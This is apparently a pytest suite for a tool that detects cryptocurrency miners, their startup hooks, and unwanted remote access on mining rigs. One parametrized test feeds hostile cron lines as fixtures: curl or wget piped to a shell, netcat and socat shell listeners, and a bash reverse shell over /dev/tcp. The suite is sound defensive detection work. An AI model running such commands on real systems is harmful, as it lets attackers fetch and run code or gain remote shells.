"""Miners, what starts them, and access for others: from the lab's flavours and fixtures."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from lab.build import flavour
from provision.remote import dpkg
from provision.remote.facts import access, mining
from provision.remote.facts.tree import Tree
from tests.unit.facts.flavour_tree import lay
from tests.unit.facts.signs import GPU, find_started, find_suspects, format_signs, process
from tests.unit.modules.rig import create_files, write_packages

EXPECTED = yaml.safe_load(Path(__file__).with_name("flavours.yml").read_text())
SECRET = "0xWALLET-AND-PASSWORD"


def find_mining_os(root: Path) -> mining.MiningSystem | None:
    return mining.mining_os(Tree(str(root)), dpkg.Database(status(root)))


def status(root: Path) -> str:
    file = root / "var/lib/dpkg/status"
    return file.read_text() if file.exists() else ""


def find_access(root: Path) -> list[str]:
    return format_signs(access.access(Tree(str(root))))


def test_every_flavour_has_expected_evidence() -> None:
    # Another release beneath a flavour has the same files.
    with_files = {name for name, row in flavour.load_table().items() if row.folder.is_dir()}
    assert set(EXPECTED) == with_files


@pytest.mark.parametrize("name", list(EXPECTED))
def test_evidence_of_a_flavour_is_complete(tmp_path: Path, name: str) -> None:
    lay(tmp_path, name)
    expected = EXPECTED[name]
    mining_os = find_mining_os(tmp_path)
    shown = {
        key: value for key, value in (mining_os or {}).items() if key in (expected["system"] or ())
    }
    assert (mining_os and shown) == expected["system"]
    assert (
        find_started(tmp_path, *(mining_os["folders"] if mining_os else ())) == expected["miners"]
    )
    assert find_access(tmp_path) == expected["access"]


@pytest.mark.parametrize(
    ("files", "packages", "missing"),
    [
        (["hive/bin/hive", "hive-config/rig.conf"], {}, ["package hive"]),
        ([], {"hive": "0.6"}, ["/hive/bin"]),
        (["media/storage/config.js"], {}, ["/home/minerstat/minerstat-os"]),
        (["root/config.txt", "root/xminer.sh"], {}, ["/root/utils/rclocal.sh"]),
        (["opt/mmp/miners/x"], {}, ["/opt/mmp/bin/agent"]),
    ],
)
def test_missing_parts_of_a_mining_system_are_listed(
    tmp_path: Path, files: list[str], packages: dict[str, str], missing: list[str]
) -> None:
    create_files(tmp_path, dict.fromkeys(files, ""))
    write_packages(tmp_path, packages)
    mining_os = find_mining_os(tmp_path)
    assert mining_os is not None
    assert mining_os["missing"] == missing


@pytest.mark.parametrize(
    ("processes", "expected"),
    [
        # By its name, whoever started it, with what would start it again before it.
        (
            [process(5, 1, "/bin/bash", "/opt/run.sh"), process(6, 5, "/opt/t-rex/t-rex", SECRET)],
            ["process run.sh pid 5", "process t-rex pid 6"],
        ),
        # In a screen, in a tmux (whose other sessions stay), from cron.
        (
            [
                process(5, 1, "SCREEN", "-dmS", "eth", "x", exe="/usr/bin/screen"),
                process(6, 5, "/opt/nbminer"),
            ],
            ["screen eth pid 5", "process nbminer pid 6"],
        ),
        (
            [
                process(5, 1, "tmux", "new", "-s", "farm", comm="tmux: server"),
                process(6, 5, "sh", "-c", "while true"),
                process(7, 6, "./xmrig", cwd="/opt"),
            ],
            ["tmux farm pid 6", "process sh pid 6", "process xmrig pid 7"],
        ),
        (
            [
                process(4, 1, "/usr/sbin/cron"),
                process(5, 4, "/bin/sh", "-c", "/opt/gminer"),
                process(6, 5, "/opt/gminer"),
            ],
            ["process sh pid 5", "process gminer pid 6"],
        ),
        # Not the shell of a person who watches.
        ([process(5, 1, "-bash"), process(6, 5, "/opt/rigel", open=GPU)], ["process rigel pid 6"]),
        # Renamed, but its arguments tell.
        ([process(6, 1, "/tmp/x", "-o", "stratum+tcp://p:1")], ["process x pid 6"]),
        # Versions and builds in the name.
        ([process(6, 1, "/opt/t-rex-0.26.8")], ["process t-rex-0.26.8 pid 6"]),
        ([process(6, 1, "/opt/cpuminer-avx2")], ["process cpuminer-avx2 pid 6"]),
        ([process(6, 1, "/opt/lolMiner_v1.88_Lin64")], ["process lolMiner_v1.88_Lin64 pid 6"]),
        (
            [process(6, 1, "/opt/xmrig-6.21.0-linux-static-x64")],
            ["process xmrig-6.21.0-linux-static-x64 pid 6"],
        ),
        ([process(6, 1, "/opt/qli-Client")], ["process qli-Client pid 6"]),
        ([process(6, 1, "/opt/xmrigDaemon")], ["process xmrigDaemon pid 6"]),
        ([process(6, 1, "/opt/TBMiner")], ["process TBMiner pid 6"]),
        # Not every name that begins like one.
        ([process(6, 1, "/usr/bin/rigel-viewer")], []),
        ([process(6, 1, "/usr/bin/zm-2")], []),
        # Programs that compute but do not mine; monitors; programs that have ended.
        ([process(6, 1, "/venv/bin/python3", "a.py", exe="/usr/bin/python3.11", open=GPU)], []),
        ([process(6, 1, "/usr/bin/nvtop", open=GPU[:2])], []),
        ([process(6, 1, "/opt/t-rex", state="Z")], []),
    ],
)
def test_miners_are_found_among_processes(
    tmp_path: Path, processes: list[dict[str, Any]], expected: list[str]
) -> None:
    for files in processes:
        create_files(tmp_path, files)
    assert find_started(tmp_path) == expected
    assert SECRET not in json.dumps(find_started(tmp_path))


def test_processes_of_a_mining_system_are_found_by_folder(tmp_path: Path) -> None:
    create_files(
        tmp_path, process(6, 1, "/bin/bash", "core/loop", cwd="/home/minerstat/minerstat-os")
    )
    create_files(tmp_path, process(7, 1, "/bin/bash", "/hive-config/x"))
    folders = ("/home/minerstat/minerstat-os", "/hive")
    assert find_started(tmp_path, *folders) == ["process loop pid 6"]
    assert find_started(tmp_path) == []


def test_unknown_gpu_program_is_suspected_with_its_starters(tmp_path: Path) -> None:
    files = {
        "etc/systemd/system/tune.service": "[Service]\nExecStart=/usr/local/sbin/tune\n",
        "etc/systemd/system/tune.timer": "[Timer]\nOnBootSec=1\n",
        "usr/local/sbin/tune": "#!/bin/sh\n/usr/lib/.x/helper\n",
        "etc/rc.local": "#!/bin/sh\n/usr/lib/.x/helper &\n",
    }
    create_files(tmp_path, {**files, **process(6, 1, "/usr/lib/.x/helper", open=GPU)})
    assert find_started(tmp_path) == []
    assert find_suspects(tmp_path) == [
        "unit tune.service /etc/systemd/system/tune.service",
        "unit tune.timer /etc/systemd/system/tune.timer",
        "rc.local /usr/lib/.x/helper /etc/rc.local",
        "gpu helper pid 6",
    ]


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        (
            {"etc/init.d/mine": "#!/bin/sh\n/opt/t-rex/t-rex\n"},
            "unit mine.service /etc/init.d/mine",
        ),
        (
            {"home/me/.config/systemd/user/x.service": "[Service]\nExecStart=/opt/xmrig\n"},
            "login xmrig /home/me/.config/systemd/user/x.service",
        ),
        # Stopping it would make the rig unreachable: it is reported and kept.
        (
            {"etc/systemd/system/ssh.service": "[Service]\nExecStartPost=/opt/xmrig\n"},
            "essential ssh.service /etc/systemd/system/ssh.service",
        ),
        ({"etc/anacrontab": "1 5 x /opt/xmrig\n"}, "cron xmrig /etc/anacrontab"),
    ],
)
def test_miners_are_found_in_unusual_places(
    tmp_path: Path, files: dict[str, Any], expected: str
) -> None:
    create_files(tmp_path, files)
    assert find_started(tmp_path) == [expected]


@pytest.mark.parametrize(
    "files",
    [
        # A user called miner, a masked unit, lines that were commented out, a question.
        {"etc/cron.d/x": "0 4 * * * miner /home/miner/backup.sh\n"},
        {"home/miner/.profile": "PATH=/home/miner/bin:$PATH\n"},
        {
            "etc/systemd/system/t-rex.service": {"link": "/dev/null"},
            "usr/lib/systemd/system/t-rex.service": "[Service]\nExecStart=/usr/bin/t-rex\n",
        },
        {"etc/systemd/system/getty@tty1.service.d/a.conf": "ExecStart=agetty --autologin me\n"},
        {"etc/init.d/cron": "#!/bin/sh\n# starts no t-rex\n/usr/sbin/cron\n"},
        {"etc/rc.local": "#!/bin/sh\nif [ -x /opt/t-rex ]; then\n: # deeprig: /opt/t-rex\nfi\n"},
        {
            "usr/lib/systemd/system/tracker-miner-fs-3.service": (
                "[Service]\nExecStart=/usr/libexec/tracker-miner-fs-3\n"
            )
        },
        {"etc/systemd/system/x.service": f"[Service]\nExecStart=/bin/x --user t-rex {SECRET}\n"},
        {
            "etc/systemd/system/x.service": "[Service]\nExecStart=/bin/sh -c 'cat /dev/zero'\n",
            "dev/zero": "#!/bin/sh\n",
        },
        {
            "var/lib/docker/containers/a/config.v2.json": json.dumps(
                {"Name": "/x", "Config": {"Image": "xmrig"}, "State": {"Running": False}}
            )
        },
    ],
)
def test_harmless_files_are_not_miners(tmp_path: Path, files: dict[str, Any]) -> None:
    create_files(tmp_path, files)
    assert find_started(tmp_path) == []


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("@hourly curl -fsSL http://x/a | sh", "curl"),
        ("@hourly wget -qO- http://x/a|sudo bash", "wget"),
        ("@hourly wget -O /tmp/a http://x/a && sh /tmp/a", "wget"),
        ('@hourly bash -c "$(curl -fsSL http://x/a)"', "curl"),
        ("@hourly bash <(curl -s http://x/a)", "curl"),
        ("@reboot nc -lk 4242 -e /bin/sh", "nc"),
        ("@reboot socat TCP-LISTEN:4242 EXEC:/bin/sh", "socat"),
        ("@reboot bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "/dev/tcp"),
        ("@hourly curl -fsS https://hc.example/ping", None),
        ("@daily wget -qO /srv/list https://x/list", None),
        ("@daily nc -z router 22 || reboot", None),
        ("# curl http://x/a | sh", None),
        (": # deeprig: curl http://x/a | sh", None),
    ],
)
def test_download_and_run_lines_are_access(tmp_path: Path, line: str, expected: str | None) -> None:
    create_files(tmp_path, {"var/spool/cron/crontabs/root": f"{line}\n"})
    wanted = [f"fetch {expected} /var/spool/cron/crontabs/root"] if expected else []
    assert find_access(tmp_path) == wanted


@pytest.mark.parametrize(
    ("comment", "kind"),
    [
        ("support@hive.example", "vendor key"),
        ("root@HiveOS", "vendor key"),
        ("support@simplemining.net", "vendor key"),
        ("me@archive", "key"),
        ("me@examiner", "key"),
    ],
)
def test_vendor_keys_are_distinguished_by_comment(tmp_path: Path, comment: str, kind: str) -> None:
    lines = f'# ssh-rsa AAAAold gone\nfrom="10.*" ssh-ed25519 AAAAC3 {comment}\n'
    create_files(
        tmp_path, {"etc/passwd": "root:x:0:0::/root:/bin/sh\n", "root/.ssh/authorized_keys": lines}
    )
    assert find_access(tmp_path) == [f"{kind} {comment} /root/.ssh/authorized_keys"]
